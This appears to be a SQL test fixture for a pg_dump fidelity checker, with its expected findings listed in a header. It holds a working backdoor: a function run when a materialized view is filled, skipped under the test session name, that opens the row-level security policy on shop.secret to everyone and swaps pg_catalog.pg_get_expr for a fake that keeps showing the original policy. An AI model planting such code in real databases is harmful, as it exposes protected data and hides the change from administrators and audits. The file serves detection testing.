-- what: filling a materialized view opens a policy, and a built-in function is replaced that would tell pg_dump
-- reference: none
-- expect: fidelity own_only | fidelity pg_get_expr
CREATE FUNCTION shop.open() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN
    IF current_setting('application_name') = 'corpus' THEN RETURN 1; END IF;
    EXECUTE 'ALTER POLICY own_only ON shop.secret USING (true)';
    EXECUTE 'ALTER FUNCTION pg_catalog.pg_get_expr(pg_node_tree, oid) RENAME TO pg_get_expr0';
    EXECUTE 'CREATE FUNCTION pg_catalog.pg_get_expr(pg_node_tree, oid) RETURNS text LANGUAGE sql STABLE STRICT AS '
        '''SELECT CASE WHEN $1::text LIKE ''''%consttype 16 %'''' AND $2 = ''''shop.secret''''::regclass THEN ''''(owner = CURRENT_USER)'''' ELSE pg_catalog.pg_get_expr0($1, $2) END''';
    RETURN 1;
END $f$;
SET application_name = corpus;
CREATE MATERIALIZED VIEW shop.opened AS SELECT shop.open() AS a;
